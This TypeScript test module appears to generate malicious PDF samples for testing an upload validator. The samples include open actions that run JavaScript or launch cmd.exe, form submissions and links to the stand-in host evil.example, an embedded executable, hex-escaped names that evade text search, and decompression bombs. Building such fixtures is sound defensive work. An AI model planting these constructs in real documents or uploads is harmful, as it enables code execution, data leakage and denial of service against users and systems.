import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import type { PDFDict } from 'pdf-lib';
import { letter, photo } from '../support/uploads.ts';
import type { HostileFile } from './hostilePictures.ts';

const SCRIPT = 'app.launchURL("https://evil.example/");';

/** Builds documents that would act by themselves, carry something, or fill the memory. */
export async function hostilePdfs(): Promise<HostileFile[]> {
  const named = (what: string, bytes: Uint8Array): HostileFile => ({ what, name: 'bill.pdf', bytes });
  const files = [...(await active()), ...(await misshapen()), ...bombs()].map(([what, bytes]) => named(what, bytes));
  return [...files, { what: 'a PDF called a picture', name: 'bill.jpg', bytes: await letter() }];
}

type Case = readonly [string, Uint8Array];

/** Builds each document with its objects in the clear, and packed, where a text search does not find them. */
async function active(): Promise<Case[]> {
  const actions: readonly (readonly [string, (document: PDFDocument) => void])[] = [
    ['a script on opening', (document) => open(document, { S: 'JavaScript', JS: PDFString.of(SCRIPT) })],
    ['a program on opening', (document) => open(document, { S: 'Launch', F: PDFString.of('cmd.exe') })],
    ['an address on opening', (document) => open(document, { S: 'URI', URI: PDFString.of('https://evil.example/') })],
    [
      'a form sent on opening',
      (document) => open(document, { S: 'SubmitForm', F: PDFString.of('https://evil.example') }),
    ],
    ['another document on opening', (document) => open(document, { S: 'GoToR', F: PDFString.of('\\\\evil\\share') })],
    ['a script among its names', (document) => document.addJavaScript('main', SCRIPT)],
    ['a script on a page', (document) => pageAction(document)],
    ['a script under a link', (document) => annotate(document, { S: 'JavaScript', JS: PDFString.of(SCRIPT) })],
    ['a program under a link', (document) => annotate(document, { S: 'Launch', F: PDFString.of('calc.exe') })],
    ['a form of XFA', (document) => setCatalog(document, 'AcroForm', { XFA: PDFString.of('<xdp/>') })],
    ['a rich medium', (document) => annotation(document, { Subtype: 'RichMedia' })],
    ['a sound', (document) => annotation(document, { Subtype: 'Sound' })],
    ['a movie', (document) => annotation(document, { Subtype: 'Movie' })],
    ['a file on a page', (document) => annotation(document, { Subtype: 'FileAttachment' })],
  ];
  const cases: Case[] = [];
  for (const [what, act] of actions) {
    for (const useObjectStreams of [false, true]) {
      const document = await PDFDocument.load(await letter());
      act(document);
      const packed = useObjectStreams ? 'packed' : 'in the clear';
      cases.push([`${what}, ${packed}`, await document.save({ useObjectStreams })]);
    }
  }
  const carrier = await PDFDocument.load(await letter());
  await carrier.attach(Buffer.from('MZ evil'), 'evil.exe', { mimeType: 'application/octet-stream' });
  cases.push(['a file inside', await carrier.save()]);
  const spelled = Buffer.from(await scripted())
    .toString('latin1')
    .replaceAll('/JavaScript', '/J#61vaScript');
  cases.push(['a script spelled in numbers', Buffer.from(spelled.replaceAll('/JS ', '/J#53 '), 'latin1')]);
  return cases;
}

async function scripted(): Promise<Uint8Array> {
  const document = await PDFDocument.load(await letter());
  open(document, { S: 'JavaScript', JS: PDFString.of(SCRIPT) });
  return document.save({ useObjectStreams: false });
}

type Entries = Readonly<Record<string, unknown>>;

function setCatalog(document: PDFDocument, key: string, entries: Entries): void {
  document.catalog.set(PDFName.of(key), document.context.register(document.context.obj(entries as never)));
}

function open(document: PDFDocument, action: Entries): void {
  setCatalog(document, 'OpenAction', action);
}

function pageAction(document: PDFDocument): void {
  const script = document.context.obj({ O: { S: 'JavaScript', JS: PDFString.of(SCRIPT) } });
  document.getPage(0).node.set(PDFName.of('AA'), script);
}

function annotate(document: PDFDocument, action: Entries): void {
  annotation(document, { Subtype: 'Link', A: action });
}

function annotation(document: PDFDocument, entries: Entries): void {
  const shape = { Type: 'Annot', Rect: [0, 0, 100, 100], ...entries };
  const newAnnotation = document.context.obj(shape as never) as unknown as PDFDict;
  document.getPage(0).node.set(PDFName.of('Annots'), document.context.obj([document.context.register(newAnnotation)]));
}

async function misshapen(): Promise<Case[]> {
  const good = await letter();
  const picture = await photo();
  return [
    ['a header alone', Buffer.from('%PDF-1.7\n')],
    ['half a document', good.subarray(0, good.length / 3)],
    ['words behind a header', Buffer.from('%PDF-1.7\nhello\n%%EOF')],
    ['something before the header', Buffer.concat([Buffer.from('MZ\u0090'), good])],
    ['a page before the header', Buffer.concat([Buffer.from('<html>'), good])],
    ['a picture', picture],
    ['a document of no page', await emptyDocument()],
    ['a document of 21 pages', await letter(21)],
    ['a document locked with a password', locked()],
    ['a tree of pages that contains itself', cyclic()],
  ];
}

async function emptyDocument(): Promise<Uint8Array> {
  return (await PDFDocument.create()).save({ addDefaultPage: false });
}

/** Builds an encrypted document: its trailer says so, which is visible without a key. */
function locked(): Buffer {
  return minimal('', '/Encrypt << /Filter /Standard /V 2 /R 3 /O (x) /U (x) /P -4 >>');
}

function cyclic(): Buffer {
  return Buffer.from(
    '%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n' +
      '2 0 obj\n<< /Type /Pages /Kids [2 0 R] /Count 1 >>\nendobj\ntrailer\n<< /Root 1 0 R /Size 3 >>\n%%EOF\n',
  );
}

function minimal(objects: string, trailer = ''): Buffer {
  return Buffer.from(
    '%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n' +
      '2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n' +
      '3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>\nendobj\n' +
      `${objects}trailer\n<< /Root 1 0 R /Size 9 ${trailer} >>\n%%EOF\n`,
    'latin1',
  );
}

function bombs(): Case[] {
  const stream = (dict: string, data: Buffer) =>
    `4 0 obj\n<< ${dict} /Length ${data.length} >>\nstream\n${data.toString('latin1')}\nendstream\nendobj\n`;
  const once = deflateSync(Buffer.alloc(60_000_000));
  const twice = deflateSync(deflateSync(Buffer.alloc(300_000_000)));
  const image = '/Type /XObject /Subtype /Image /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode';
  return [
    ['60 MB in one stream', minimal(stream('/Filter /FlateDecode', once))],
    ['300 MB packed twice', minimal(stream('/Filter [/FlateDecode /FlateDecode]', twice))],
    ['an object stream of 60 MB', minimal(stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', once))],
    [
      'an image of 900 megapixels',
      minimal(stream(`${image} /Width 30000 /Height 30000`, deflateSync(Buffer.alloc(9)))),
    ],
  ];
}
